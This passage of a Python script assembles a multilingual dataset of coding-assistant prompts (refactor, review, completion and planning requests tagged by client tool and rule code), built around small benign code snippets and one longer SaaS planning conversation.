add("cc_inline", "completion", "en", "sql", "postgres: query that returns for each customer their first and most recent order date and their total spend, only customers with >= 3 orders",
    rule="R7")
add("cc_inline", "refactor", "en", "c", "replace the manual byte loops with memcpy in two chunks (before and after wrap)", S["c_ringbuf"], rule="R8")
add("cc_inline", "completion", "ru", "python", "напиши функцию, которая разбивает список на чанки по n элементов (последний может быть короче), генератором",
    rule="R7")
add("cc_inline", "refactor", "en", "lua", "make setup() accept an opts table to override the leader and disable the telescope maps", S["lua_nvim"], rule="R8")
add("cc_inline", "completion", "en", "bash", "bash function that retries a command up to N times with a sleep that doubles each time, usage: retry 5 curl -fsS url",
    rule="R7")
add("cc_inline", "refactor", "de", "java", "Optional statt null zurückgeben und die Methode final machen", S["java_strutil"], rule="R8")
add("cc_inline", "completion", "en", "typescript", "a type guard isApiError(e: unknown): e is ApiError", S["ts_api_client"], rule="R7")
add("cc_inline", "refactor", "en", "cpp", "mark the const member functions noexcept and add [[nodiscard]] where it makes sense", S["cpp_matrix"], rule="R8")
add("cc_inline", "completion", "es", "go", "función que valide un IBAN (longitud por país no hace falta, solo el checksum mod 97)",
    rule="R7")
add("cc_inline", "review", "en", "python", "what does this regex match? answer in chat",
    "```python\nSLUG = re.compile(r\"^(?!-)[a-z0-9-]{1,63}(?<!-)$\")\n```", rule="R6")
add("cc_inline", "refactor", "en", "elixir", "use with/else instead of the nested if", "```elixir\ndef handle_call({:hit, key, limit, window_ms}, _from, state) do\n  if is_binary(key) do\n    if limit > 0 do\n      do_hit(key, limit, window_ms, state)\n    else\n      {:reply, {:error, :bad_limit}, state}\n    end\n  else\n    {:reply, {:error, :bad_key}, state}\n  end\nend\n```",
    rule="R8")
add("cc_inline", "completion", "en", "swift", "Codable struct for this JSON: {\"id\": 12, \"author\": {\"name\": \"x\", \"avatar_url\": null}, \"created_at\": \"2025-10-01T12:00:00Z\", \"tags\": [\"a\"]} with snake_case keys",
    rule="R7")
add("cc_inline", "completion", "ja", "typescript", "この型から全プロパティを再帰的に readonly にするユーティリティ型 DeepReadonly<T> を書いて",
    rule="R7")
add("cc_inline", "refactor", "en", "scala", "replace the string column refs ($\"...\") with col() and pull the magic strings into vals at the top", S["scala_spark"], rule="R8")


# ---------------------------------------------------------------------------------------
# Batch 5: gp.nvim, gptel, LibreChat
# ---------------------------------------------------------------------------------------

snip("py_scraper", "python", "scrape/prices.py", '''
import re
import time

import requests
from bs4 import BeautifulSoup

HEADERS = {"User-Agent": "Mozilla/5.0 (price-watch bot)"}


def fetch(url):
    r = requests.get(url, headers=HEADERS, timeout=15)
    r.raise_for_status()
    return r.text


def parse_price(html):
    soup = BeautifulSoup(html, "html.parser")
    el = soup.select_one("[itemprop=price], .price, #priceblock_ourprice")
    if not el:
        return None
    text = el.get("content") or el.get_text()
    m = re.search(r"(\\d+[.,]\\d{2})", text)
    return float(m.group(1).replace(",", ".")) if m else None


def watch(urls, every=3600):
    last = {}
    while True:
        for url in urls:
            try:
                price = parse_price(fetch(url))
            except Exception as e:
                print("error", url, e)
                continue
            if url in last and price != last[url]:
                print(f"{url}: {last[url]} -> {price}")
            last[url] = price
        time.sleep(every)
''')

snip("ts_form", "typescript", "src/components/SignupForm.tsx", '''
import { useState } from "react";

export function SignupForm({ onSubmit }: { onSubmit: (data: { email: string; password: string }) => Promise<void> }) {
  const [email, setEmail] = useState("");
  const [password, setPassword] = useState("");
  const [error, setError] = useState("");
  const [busy, setBusy] = useState(false);

  async function handleSubmit(e: React.FormEvent) {
    e.preventDefault();
    if (!email.includes("@")) return setError("Invalid email");
    if (password.length < 8) return setError("Password too short");
    setBusy(true);
    try {
      await onSubmit({ email, password });
    } catch (err) {
      setError((err as Error).message);
    }
    setBusy(false);
  }

  return (
    <form onSubmit={handleSubmit}>
      <input value={email} onChange={(e) => setEmail(e.target.value)} placeholder="email" />
      <input type="password" value={password} onChange={(e) => setPassword(e.target.value)} />
      {error && <p className="error">{error}</p>}
      <button disabled={busy}>Sign up</button>
    </form>
  );
}
''')

snip("go_kv", "go", "internal/store/kv.go", '''
package store

import (
	"encoding/json"
	"os"
	"sync"
)

type KV struct {
	mu   sync.RWMutex
	path string
	data map[string]string
}

func Open(path string) (*KV, error) {
	kv := &KV{path: path, data: map[string]string{}}
	b, err := os.ReadFile(path)
	if err == nil {
		if err := json.Unmarshal(b, &kv.data); err != nil {
			return nil, err
		}
	} else if !os.IsNotExist(err) {
		return nil, err
	}
	return kv, nil
}

func (kv *KV) Get(k string) (string, bool) {
	kv.mu.RLock()
	defer kv.mu.RUnlock()
	v, ok := kv.data[k]
	return v, ok
}

func (kv *KV) Set(k, v string) error {
	kv.mu.Lock()
	defer kv.mu.Unlock()
	kv.data[k] = v
	b, _ := json.Marshal(kv.data)
	return os.WriteFile(kv.path, b, 0o644)
}
''')

snip("rs_stats", "rust", "src/stats.rs", '''
pub fn mean(xs: &[f64]) -> f64 {
    xs.iter().sum::<f64>() / xs.len() as f64
}

pub fn median(xs: &mut Vec<f64>) -> f64 {
    xs.sort_by(|a, b| a.partial_cmp(b).unwrap());
    let n = xs.len();
    if n % 2 == 0 {
        (xs[n / 2 - 1] + xs[n / 2]) / 2.0
    } else {
        xs[n / 2]
    }
}

pub fn stddev(xs: &[f64]) -> f64 {
    let m = mean(xs);
    let var = xs.iter().map(|x| (x - m).powi(2)).sum::<f64>() / (xs.len() - 1) as f64;
    var.sqrt()
}

pub fn percentile(xs: &mut Vec<f64>, p: f64) -> f64 {
    xs.sort_by(|a, b| a.partial_cmp(b).unwrap());
    let idx = ((p / 100.0) * (xs.len() - 1) as f64).round() as usize;
    xs[idx]
}
''')

snip("c_utf8", "c", "src/utf8.c", '''
#include <stddef.h>
#include <stdint.h>

/* Returns number of code points in s, or -1 if s is not valid UTF-8. */
long utf8_len(const unsigned char *s, size_t n)
{
    long count = 0;
    size_t i = 0;
    while (i < n) {
        unsigned char c = s[i];
        size_t k;
        if (c < 0x80)
            k = 1;
        else if ((c & 0xE0) == 0xC0)
            k = 2;
        else if ((c & 0xF0) == 0xE0)
            k = 3;
        else if ((c & 0xF8) == 0xF0)
            k = 4;
        else
            return -1;
        if (i + k > n)
            return -1;
        for (size_t j = 1; j < k; j++)
            if ((s[i + j] & 0xC0) != 0x80)
                return -1;
        i += k;
        count++;
    }
    return count;
}
''')

snip("java_sched", "java", "src/main/java/com/acme/jobs/ReportJob.java", '''
package com.acme.jobs;

import org.springframework.scheduling.annotation.Scheduled;
import org.springframework.stereotype.Component;

@Component
public class ReportJob {
    private final ReportService reports;
    private final MailClient mail;

    public ReportJob(ReportService reports, MailClient mail) {
        this.reports = reports;
        this.mail = mail;
    }

    @Scheduled(cron = "0 0 7 * * MON-FRI")
    public void sendDailyReport() {
        byte[] pdf = reports.renderDaily();
        for (String to : reports.recipients()) {
            mail.send(to, "Daily report", "See attachment", pdf);
        }
    }
}
''')

# --- gp.nvim ----------------------------------------------------------------------------

add("gp", "refactor", "en", "python", "use a requests.Session with retries (urllib3 Retry, backoff 1s, on 429/5xx)", S["py_scraper"], mode="rewrite", rule="R8")
add("gp", "completion", "en", "python", "add a function that loads the urls from a text file (one per line, # comments allowed)", S["py_scraper"], mode="append", rule="R7")
add("gp", "review", "en", "python", "why would parse_price return 1.0 for a price like '1.299,00 €'?", S["py_scraper"], mode="chat", rule="R5")
add("gp", "refactor", "en", "typescript", "setBusy(false) should run in finally and clear the error when the user types", S["ts_form"], mode="rewrite", rule="R8")
add("gp", "completion", "en", "typescript", "a TSDoc block for SignupForm describing the props and the validation rules", S["ts_form"], mode="prepend", rule="R7")
add("gp", "review", "en", "typescript", "accessibility review of this form. list problems only", S["ts_form"], mode="chat", rule="R11")
add("gp", "refactor", "de", "go", "Set soll atomar schreiben: erst in eine temp-Datei, dann os.Rename. Fehler von json.Marshal nicht ignorieren.", S["go_kv"], mode="rewrite", rule="R8")
add("gp", "completion", "en", "go", "Delete(k string) error and Keys() []string (sorted)", S["go_kv"], mode="append", rule="R7")
add("gp", "review", "en", "go", "with 1000 Sets per second, what's going to hurt first here?", S["go_kv"], mode="chat", rule="R6")
add("gp", "planning", "en", "go", "this little json-file KV started as a hack and is now used by three services. what are my options to replace it without downtime (bolt, sqlite, redis)? I'd like a plan with steps", S["go_kv"], mode="chat", rule="R6")
add("gp", "refactor", "en", "rust", "median and percentile shouldn't reorder the caller's data; take &[f64] and sort a copy. use total_cmp instead of partial_cmp().unwrap()", S["rs_stats"], mode="rewrite", rule="R8")
add("gp", "review", "ja", "rust", "stddev に要素が1つだけのスライスを渡すとどうなりますか？mean に空スライスを渡した場合も", S["rs_stats"], mode="chat", rule="R6")
add("gp", "completion", "en", "rust", "#[cfg(test)] mod with tests for each function including the even/odd median cases", S["rs_stats"], mode="append", rule="R4")
add("gp", "completion", "en", "c", "", "```c\n/* Decode one UTF-8 code point starting at s[*i]; advance *i. Return the code point or -1 on invalid input (overlongs and surrogates are invalid). */\nlong utf8_next(const unsigned char *s, size_t n, size_t *i)\n{\n    /* implement me */\n}\n```",
    mode="implement", rule="R7")
add("gp", "review", "en", "c", "does utf8_len accept overlong encodings like C0 80? and surrogates (ED A0 80)?", S["c_utf8"], mode="chat", rule="R6")
add("gp", "refactor", "ru", "c", "сделай так, чтобы overlong-последовательности и суррогаты считались невалидными", S["c_utf8"], mode="rewrite", rule="R8")
add("gp", "refactor", "en", "java", "make the job skip weekends that are public holidays (HolidayCalendar bean exists) and not send the same report twice if the app restarts at 7:00", S["java_sched"], mode="rewrite", rule="R8")
add("gp", "planning", "en", "java", "we run 4 replicas of this service and every replica sends the daily report. what are the options (ShedLock, a leader election, moving it to a separate cron service)? what would you do", S["java_sched"], mode="chat", rule="R6")
add("gp", "planning", "en", "none", "I'm starting a side project: a self-hosted bookmark manager with full-text search of the saved pages, browser extension, and a mobile share target. help me pick the stack and cut an MVP", mode="chat", rule="R7")
add("gp", "planning", "zh", "none", "我们组要从 SVN 迁到 Git（GitLab），有 12 年的历史、好几个长期分支、还有二进制大文件。迁移步骤怎么安排？历史要不要保留？LFS 怎么处理？", mode="chat", rule="R7")
add("gp", "review", "en", "none", "explain the difference between a mutex and a semaphore with a concrete example where using one instead of the other causes a bug", mode="chat", rule="R6")
add("gp", "completion", "en", "lua", "", "```lua\n-- return the visual selection as a list of lines (handles v, V and <C-v> modes)\nlocal function get_visual_selection()\n  -- TODO\nend\n```", mode="implement", rule="R7")
add("gp", "refactor", "en", "lua", "turn the modes table into a function that also handles the 'no' and 's' prefixes", S["lua_statusline"], mode="rewrite", rule="R8")
add("gp", "planning", "es", "none", "Tengo que diseñar el sistema de notificaciones de nuestra app (email, push, in-app), con preferencias por usuario y plantillas traducidas. ¿Cómo lo estructurarías? Colas, servicios, tablas.", mode="chat", rule="R7")
add("gp", "review", "en", "sql", "is there any difference between these two?\n\n```sql\nSELECT * FROM a LEFT JOIN b ON b.a_id = a.id WHERE b.deleted_at IS NULL;\nSELECT * FROM a LEFT JOIN b ON b.a_id = a.id AND b.deleted_at IS NULL;\n```", mode="chat", rule="R6")
add("gp", "completion", "en", "sql", "add an index definition that would make this fast", S["sql_report"], mode="append", rule="R7")
add("gp", "refactor", "en", "javascript", "rewrite using fetch and async/await, no jQuery", S["js_jquery_form"], mode="rewrite", rule="R8")
add("gp", "planning", "en", "javascript", "we have ~80 pages like this one with jQuery handlers. leadership wants 'modern frontend'. htmx, alpine, react islands, full SPA? help me figure out the approach and a rollout plan that doesn't stop feature work", S["js_jquery_form"], mode="chat", rule="R6")
add("gp", "completion", "ko", "python", "", "```python\ndef normalize_phone(raw: str, default_country: str = \"KR\") -> str | None:\n    \"\"\"전화번호를 E.164 형식(+821012345678)으로 변환. 하이픈/공백/괄호 허용, 010으로 시작하면 KR 휴대폰. 변환 불가면 None.\"\"\"\n```",
    mode="implement", rule="R7")
add("gp", "review", "it", "python", "Questo codice ha problemi se due URL restituiscono lo stesso prezzo? E se la pagina cambia layout?", S["py_scraper"], mode="chat", rule="R6")

# --- gptel --------------------------------------------------------------------------------

snip("py_emacs_tool", "python", "~/bin/org2csv.py", '''
import re
import sys

HEADING = re.compile(r"^(\\*+)\\s+(TODO|DONE|WAIT)?\\s*(.*?)(\\s+:[\\w:]+:)?$")
PROP = re.compile(r"^\\s*:(\\w+):\\s*(.*)$")


def parse(lines):
    items, cur = [], None
    for line in lines:
        m = HEADING.match(line)
        if m:
            if cur:
                items.append(cur)
            cur = {"level": len(m.group(1)), "state": m.group(2) or "", "title": m.group(3),
                   "tags": (m.group(4) or "").strip().strip(":").split(":")}
            continue
        p = PROP.match(line)
        if p and cur is not None:
            cur[p.group(1).lower()] = p.group(2)
    if cur:
        items.append(cur)
    return items


if __name__ == "__main__":
    for it in parse(open(sys.argv[1])):
        print(",".join([it["state"], it["title"], ";".join(it["tags"]), it.get("deadline", "")]))
''')

add("gptel", "review", "en", "python", "what happens with headings that have no tags? I get [''] in the tags list", S["py_emacs_tool"], rule="R5")
add("gptel", "refactor", "en", "python", "use the csv module for output so titles with commas don't break the file, and print a header row", S["py_emacs_tool"], rewrite=True, rule="R8")
add("gptel", "completion", "en", "none", "elisp: a command that copies the current buffer's file path relative to the project root (project.el) to the kill ring and messages it", directive="programming", rule="R7")
add("gptel", "review", "en", "none", "what does `(setq-local gc-cons-threshold most-positive-fixnum)` in a minibuffer-setup-hook actually buy me? is it safe", rule="R6")
add("gptel", "planning", "en", "none", "I want to move my whole Emacs config to use-package with :ensure nil and elpaca, and split init.el (3000 lines) into modules. how would you go about it without breaking my daily driver?", rule="R7", prefix="*** ")
add("gptel", "refactor", "en", "go", "return a copy of the map in a new Snapshot() method and make Get use it... actually no, just make Set not rewrite the whole file on every call: batch writes with a 100ms debounce", S["go_kv"], rewrite=True, rule="R8")
add("gptel", "review", "de", "none", "Was ist der Unterschied zwischen `let` und `let*` in Elisp, und wann brauche ich `letrec`?", rule="R6")
add("gptel", "planning", "en", "none", "our team of 5 wants to start doing code review properly. right now people merge their own PRs. what process would you set up (rules, CODEOWNERS, review SLAs, what to automate), and how do we roll it out without annoying everyone", rule="R7")
add("gptel", "completion", "en", "python", "python function: given a list of (start, end) datetime intervals, merge overlapping ones and return the total covered duration as a timedelta", directive="programming", rule="R7")
add("gptel", "refactor", "ja", "typescript", "エラー処理を try/catch/finally に整理して、onSubmit が投げたエラーが Error 以外の場合もメッセージを出すようにして", S["ts_form"], rewrite=True, rule="R8")
add("gptel", "review", "en", "rust", "explain lifetimes in this signature like I know C but not Rust: `fn longest<'a>(x: &'a str, y: &'a str) -> &'a str`", rule="R6")
add("gptel", "planning", "ru", "none", "Хочу сделать свой небольшой сервис для заметок с синхронизацией между Emacs (org-файлы) и телефоном. Как бы ты спроектировал синхронизацию и разрешение конфликтов? Какие есть готовые решения, чтобы не изобретать велосипед?", rule="R7")
add("gptel", "completion", "en", "bash", "bash: list git branches merged into main whose last commit is older than 90 days, print branch and date, oldest first", directive="programming", rule="R7")
add("gptel", "review", "en", "python", "is this thread-safe under CPython with the GIL? two threads call incr()\n\n```python\ncounter = 0\n\ndef incr():\n    global counter\n    counter += 1\n```", rule="R6")
add("gptel", "refactor", "en", "c", "make utf8_len also return the byte offset of the first invalid sequence through an out parameter", S["c_utf8"], rewrite=True, rule="R8")
add("gptel", "planning", "en", "none", "We're a 3-person startup. Do we need Kubernetes? We have a Django app, a worker, Postgres and Redis. Walk me through the options (PaaS, a VM with compose, managed k8s) and what you'd pick for the next 12 months", rule="R6")
add("gptel", "review", "es", "python", "¿Por qué `def f(x=[])` es mala idea? Explícalo con un ejemplo que falle", rule="R6")
add("gptel", "completion", "zh", "python", "写一个函数，把中文数字（比如“一千二百零五”“三万”）转成 int，只需要支持到亿以内", directive="programming", rule="R7")
add("gptel", "refactor", "en", "java", "send the mails in parallel with a bounded executor (4 threads) and log failures per recipient instead of aborting the loop", S["java_sched"], rewrite=True, rule="R8")
add("gptel", "planning", "en", "none", "I got asked to 'own the migration to Postgres 17' for our company (8 databases, 2TB biggest, logical replicas for analytics). what's the plan? I need something I can present on Monday", rule="R7")
add("gptel", "review", "en", "haskell", "why does this blow the stack for big lists but foldl' doesn't?\n\n```haskell\nmySum :: [Int] -> Int\nmySum = foldl (+) 0\n```", rule="R5")
add("gptel", "completion", "en", "haskell", "haskell: `chunksOf :: Int -> [a] -> [[a]]` without using Data.List.Split", directive="programming", rule="R7")
add("gptel", "review", "en", "none", "summarize this RFC section for me in 5 bullets, what changes for a client implementer?\n\nThe server MUST NOT send a Retry-After header field with a value less than zero. A client that receives a 503 (Service Unavailable) with a Retry-After header field SHOULD NOT repeat the request before the indicated time. A client MAY repeat a request that received a 429 (Too Many Requests) after the time indicated in the Retry-After header field, and MUST NOT repeat it earlier. When the Retry-After header field is absent, clients SHOULD apply an exponential backoff starting at one second, doubling on each retry, with a maximum interval of 60 seconds, and SHOULD add a random jitter of up to 20 percent of the interval. Intermediaries that aggregate responses from multiple origins SHOULD forward the largest Retry-After value received.", rule="R6")
add("gptel", "refactor", "en", "lua", "highlight the mode segment with a different hl group per mode (StatusNormal, StatusInsert...)", S["lua_statusline"], rewrite=True, rule="R8")
add("gptel", "planning", "zh", "none", "团队要做一个内部的低代码表单平台，给运营同事拖拽生成表单、审批流。技术上怎么选型？自研还是基于开源（比如 formily、amis）改？给个分阶段路线", rule="R6")
add("gptel", "completion", "it", "javascript", "funzione JS che formatta un numero come valuta in euro con locale it-IT e due decimali, senza usare librerie", directive="programming", rule="R7")
add("gptel", "review", "en", "javascript", "what's the output and why?\n\n```javascript\nfor (var i = 0; i < 3; i++) setTimeout(() => console.log(i));\nfor (let j = 0; j < 3; j++) setTimeout(() => console.log(j));\n```", rule="R6")
add("gptel", "planning", "de", "none", "Wir müssen unsere Monolith-Datenbank (MySQL 5.7, 600 Tabellen) auf MySQL 8 heben und gleichzeitig die Zeichensätze auf utf8mb4 umstellen. Wie gehen wir das an, mit möglichst wenig Downtime?", rule="R5")
add("gptel", "completion", "en", "python", "docstring for this in numpy style", S["py_invoice"], rule="R7")

# --- LibreChat ---------------------------------------------------------------------------

LONG_CHAT_SAAS = [
    ("user", "We're building a B2B SaaS for scheduling field technicians (plumbers, HVAC). Customers are small companies, 5-50 technicians each. Current stack: Django monolith, Postgres, Celery, React frontend. About 400 customers. I'm the tech lead, 6 engineers."),
    ("assistant", "Thanks for the context. A few questions before suggesting anything: what's the biggest pain right now (performance, feature velocity, reliability)? How is the mobile experience for technicians handled today? And is there any multi-region or data residency requirement?"),
    ("user", "Pain: the dispatch board is slow for bigger customers (it recomputes routes on every change), and the technician mobile web app is unusable offline, which matters because basements have no signal. No data residency yet but a big prospect in Germany is asking about EU hosting."),
    ("assistant", "That helps. The dispatch board slowness sounds like a computation placement problem (route optimization synchronously in the request path) rather than a monolith problem. Offline for technicians is a client architecture problem: you need local storage plus a sync protocol. EU hosting is an infrastructure question that affects your deployment topology, secrets, backups and support access. These three can be treated mostly independently, which is good news: you don't need a rewrite."),
    ("user", "ok. The route optimization currently calls OR-Tools inside the view. For a customer with 40 techs and 300 jobs/day it takes 8-12 seconds. We recompute on every drag and drop."),
    ("assistant", "Then the first lever is to stop recomputing synchronously: move optimization to a background job keyed by (customer, day), debounce changes, and push results to the board via websockets or polling. Incremental re-optimization (only the affected technician's route) often gets you from seconds to tens of milliseconds for a single drag. You can keep OR-Tools."),
    ("user", "Makes sense. For offline, the techs need: today's jobs, customer addresses/notes, the ability to mark jobs done, add photos and signatures, and log parts used. Sync when back online. Conflicts are rare but possible (dispatcher reassigns a job while tech is offline)."),
    ("assistant", "That's a classic local-first scope. The data the tech writes is mostly append-only (status events, photos, signatures, parts), which is easy to merge. The only real conflict is assignment/status vs. dispatcher changes, and you can resolve it with server-authoritative rules and surfacing a notice to the tech. A PWA with IndexedDB and a background sync queue is usually enough; a native app is only needed if you need reliable background location or very large photo batches."),
]

add("librechat", "planning", "en", "none",
    "Alright. Given all of that, put together the plan for the next two quarters: what we do first, how we split the 6 engineers across the three tracks (dispatch perf, offline techs, EU hosting), milestones, and the main risks. Be concrete.",
    history=LONG_CHAT_SAAS, rule="R13", user="u-techlead")

add("librechat", "review", "en", "python",
    "Can you explain what this does line by line? My coworker wrote it and left.",
    S["py_s3sync"], rule="R6")
add("librechat", "refactor", "en", "python",
    "Clean this up and make it use a thread pool for uploads (8 workers). Keep the CLI the same.",
    S["py_s3sync"], rule="R8")
add("librechat", "completion", "en", "python",
    "Write a Python function that validates a German IBAN (DE + 20 digits, checksum via mod 97) and returns the BLZ and account number if valid.",
    rule="R7")
add("librechat", "planning", "en", "none",
    "We're choosing a message broker for order events between 5 services: Kafka, RabbitMQ, NATS JetStream, or just Postgres LISTEN/NOTIFY + outbox. Throughput is maybe 200 msgs/s peak, ordering per order id matters, replay would be nice. Team has no Kafka experience. What would you pick and why?",
    rule="R6")
add("librechat", "review", "zh", "go",
    "这段 Go 代码在高并发下偶尔会 panic: concurrent map writes，但我明明用了锁，为什么？\n\n```go\ntype Registry struct {\n\tmu    sync.Mutex\n\titems map[string]*Item\n}\n\nfunc (r Registry) Add(it *Item) {\n\tr.mu.Lock()\n\tdefer r.mu.Unlock()\n\tr.items[it.ID] = it\n}\n\nfunc (r *Registry) Get(id string) *Item {\n\tr.mu.Lock()\n\tdefer r.mu.Unlock()\n\treturn r.items[id]\n}\n```",
    rule="R5")
add("librechat", "refactor", "zh", "go",
    "帮我把这个改对，顺便把 Mutex 换成 RWMutex，Get 用读锁\n\n```go\ntype Registry struct {\n\tmu    sync.Mutex\n\titems map[string]*Item\n}\n\nfunc (r Registry) Add(it *Item) {\n\tr.mu.Lock()\n\tdefer r.mu.Unlock()\n\tr.items[it.ID] = it\n}\n\nfunc (r *Registry) Get(id string) *Item {\n\tr.mu.Lock()\n\tdefer r.mu.Unlock()\n\treturn r.items[id]\n}\n```",
    rule="R8")
add("librechat", "planning", "zh", "none",
    "我们公司准备做一个面向中小商户的 SaaS 收银系统，要支持多门店、离线收银、会员积分。作为技术负责人我需要出一份整体架构设计，包括前端（收银端用什么技术）、后端服务划分、数据库选型、离线同步方案。请帮我起草",
    rule="R10")
add("librechat", "review", "ja", "java",
    "Java の record と Lombok の @Value の違いは何ですか？既存のコードを record に置き換えるときの注意点も知りたいです",
    rule="R6")
add("librechat", "planning", "ja", "none",
    "社内システムを Java 8 から Java 21 に上げたいです。Spring Boot 2.3、Tomcat 上の WAR デプロイ、ライブラリも古いです。どういう順番で進めればいいか、リスクと合わせて計画を立ててください",
    rule="R5")
add("librechat", "completion", "ja", "python",
    "Python で、和暦の文字列（例：「令和7年10月14日」「平成31年4月30日」）を datetime.date に変換する関数を書いてください。元号は明治から令和まで対応",
    rule="R7")
add("librechat", "review", "ru", "cpp",
    "Почему этот код печатает мусор?\n\n```cpp\nconst char* greet(const std::string& name) {\n    std::string s = \"Hello, \" + name;\n    return s.c_str();\n}\n\nint main() {\n    std::cout << greet(\"Ivan\") << std::endl;\n}\n```",
    rule="R5")
add("librechat", "planning", "ru", "none",
    "Мы небольшая команда (3 бэкенда, 1 фронт), пишем маркетплейс. Сейчас всё в одном репозитории на Laravel. Инвесторы хотят масштабирования. Стоит ли сейчас распиливать на микросервисы или лучше модульный монолит? Опиши, как бы ты принимал это решение и что делать в ближайшие полгода.",
    rule="R6")
add("librechat", "refactor", "ru", "javascript",
    "Перепиши на TypeScript с нормальными типами для событий (чтобы emit('login', user) проверялся по типу)",
    S["js_emitter"], rule="R8")
add("librechat", "review", "de", "python",
    "Ich verstehe Python-Dekoratoren mit Parametern nicht. Kannst du mir anhand von diesem Code erklären, was bei @retry(times=5) genau passiert?",
    S["py_retry"], rule="R6")
add("librechat", "planning", "de", "none",
    "Wir sind eine Agentur und bauen für Kunden oft ähnliche Shops. Lohnt sich eine eigene Headless-Plattform (z.B. auf Medusa oder Saleor) gegenüber Shopify Plus? Bitte mit Kriterien, Kostenabschätzung grob und wie ein Pilotprojekt aussehen könnte.",
    rule="R6")
add("librechat", "completion", "de", "typescript",
    "Schreib mir eine TypeScript-Funktion, die eine deutsche Steuer-ID (11 Ziffern) nach dem offiziellen Prüfziffernverfahren validiert.",
    rule="R7")
add("librechat", "review", "es", "sql",
    "¿Por qué esta consulta tarda 40 segundos? Te paso el EXPLAIN ANALYZE.\n\n```\nHash Join  (cost=1284.11..982341.55 rows=120 width=64) (actual time=210.331..40112.908 rows=118 loops=1)\n  Hash Cond: (o.customer_id = c.id)\n  ->  Seq Scan on orders o  (cost=0.00..981012.00 rows=4812 width=40) (actual time=0.021..40001.551 rows=5120 loops=1)\n        Filter: ((status = 'pending'::text) AND (created_at > (now() - '7 days'::interval)))\n        Rows Removed by Filter: 48120331\n  ->  Hash  (cost=1000.00..1000.00 rows=22729 width=32) (actual time=98.120..98.121 rows=22729 loops=1)\n        ->  Seq Scan on customers c  (cost=0.00..1000.00 rows=22729 width=32)\nPlanning Time: 0.412 ms\nExecution Time: 40113.220 ms\n```",
    rule="R5")
add("librechat", "completion", "es", "sql",
    "Dame el CREATE INDEX adecuado para esa consulta (status = 'pending' y created_at de los últimos 7 días) en Postgres, que no bloquee la tabla",
    rule="R7")
add("librechat", "planning", "es", "none",
    "Soy el único desarrollador en una ONG y mantenemos un WordPress con 30 plugins, un Excel de donantes y formularios de Google. Queremos ordenar esto: CRM, pagos recurrentes, protección de datos (RGPD). ¿Por dónde empiezo? Necesito un plan realista para una persona.",
    rule="R7")
add("librechat", "review", "ko", "rust",
    "Rust 에서 `Rc<RefCell<T>>` 랑 `Arc<Mutex<T>>` 차이가 뭐야? 언제 어떤 걸 써야 하는지 예시로 설명해줘",
    rule="R6")
add("librechat", "planning", "ko", "none",
    "스타트업 백엔드를 혼자 맡게 됐어. 지금은 Firebase 만 쓰고 있는데 비용이 너무 많이 나와. 자체 백엔드로 옮기려면 어떤 순서로 해야 할까? 인증, 데이터 마이그레이션, 푸시 알림 다 포함해서",
    rule="R7")
add("librechat", "completion", "it", "python",
    "Scrivimi una funzione Python che calcola il codice fiscale italiano dato nome, cognome, data di nascita, sesso e codice catastale del comune",
    rule="R7")
add("librechat", "review", "en", "typescript",
    "Which of these is faster for 1M elements and why?\n\n```typescript\nconst a = arr.filter(x => x.active).map(x => x.id);\nconst b = arr.reduce<number[]>((acc, x) => { if (x.active) acc.push(x.id); return acc; }, []);\nconst c: number[] = []; for (const x of arr) if (x.active) c.push(x.id);\n```",
    rule="R6")
add("librechat", "refactor", "en", "typescript",
    "This component re-renders the whole list on every keystroke. Memoize what needs memoizing and move the filter into useMemo.\n\n```tsx\nexport function UserList({ users }: { users: User[] }) {\n  const [q, setQ] = useState(\"\");\n  const filtered = users.filter(u => u.name.toLowerCase().includes(q.toLowerCase()));\n  return (\n    <>\n      <input value={q} onChange={e => setQ(e.target.value)} />\n      <ul>{filtered.map(u => <UserRow key={u.id} user={u} onSelect={() => console.log(u.id)} />)}</ul>\n    </>\n  );\n}\n```",
    rule="R8")
add("librechat", "planning", "en", "none",
    "How should we version our internal gRPC APIs across 12 services? We keep breaking consumers. Looking for a policy + tooling (buf breaking?) + rollout plan.",
    rule="R6")
add("librechat", "completion", "en", "bash",
    "bash script: for each subdirectory of ./services that has a Dockerfile, build it as registry.local/<dirname>:<git short sha> in parallel (max 3 at once), fail if any build fails",
    rule="R7")
add("librechat", "review", "en", "none",
    "What's the difference between optimistic and pessimistic locking, and when does optimistic locking fall apart in practice?",
    rule="R6")
add("librechat", "refactor", "en", "java",
    "Here is my DAO, please apply these review comments: 1) use try-with-resources 2) parameterize the city query 3) return an unmodifiable list 4) wrap SQLException in a DataAccessException (ours, unchecked)",
    S["java_jdbc"], rule="R8")
add("librechat", "planning", "en", "none",
    "I'm writing the test strategy for our payments service (Stripe + our own ledger). What layers of tests do we need, what do we mock vs run for real, how do we test webhooks and idempotency, and what do we run in CI vs nightly?",
    rule="R4")
add("librechat", "review", "en", "c",
    "is this undefined behaviour? gcc -O2 prints 1, -O0 prints 0\n\n```c\n#include <stdio.h>\n#include <limits.h>\n\nint check(int x) {\n    return x + 1 > x;\n}\n\nint main(void) {\n    printf(\"%d\\n\", check(INT_MAX));\n}\n```",
    rule="R6")
add("librechat", "completion", "en", "c",
    "C function `int parse_hex_color(const char *s, uint8_t *r, uint8_t *g, uint8_t *b)` that accepts #rgb and #rrggbb (case-insensitive), returns 0 on success and -1 otherwise",
    rule="R7")
add("librechat", "planning", "en", "cpp",
    "Our C++ codebase (1.2M lines, C++14, custom build scripts) needs to move to CMake and C++20. Management gave us 2 quarters. How would you sequence it? Modules? Conan or vcpkg?",
    rule="R5")
add("librechat", "refactor", "en", "cpp",
    "modernize this: smart pointers, range-for, no raw new/delete\n\n```cpp\nclass Scene {\npublic:\n    ~Scene() {\n        for (size_t i = 0; i < objects.size(); i++) delete objects[i];\n    }\n    void add(Object* o) { objects.push_back(o); }\n    void update(float dt) {\n        for (size_t i = 0; i < objects.size(); i++) objects[i]->update(dt);\n    }\n    Object* find(const char* name) {\n        for (size_t i = 0; i < objects.size(); i++)\n            if (strcmp(objects[i]->name(), name) == 0) return objects[i];\n        return NULL;\n    }\nprivate:\n    std::vector<Object*> objects;\n};\n```",
    rule="R8")
add("librechat", "review", "en", "scala",
    "Explain what `implicit` does in this Scala 2 code and what the Scala 3 equivalent would be\n\n```scala\ncase class Money(cents: Long)\n\nimplicit val moneyOrdering: Ordering[Money] = Ordering.by(_.cents)\n\nimplicit class MoneyOps(m: Money) {\n  def +(o: Money): Money = Money(m.cents + o.cents)\n}\n\ndef maxOf[T](xs: List[T])(implicit ord: Ordering[T]): T = xs.max\n```",
    rule="R6")
add("librechat", "planning", "en", "scala",
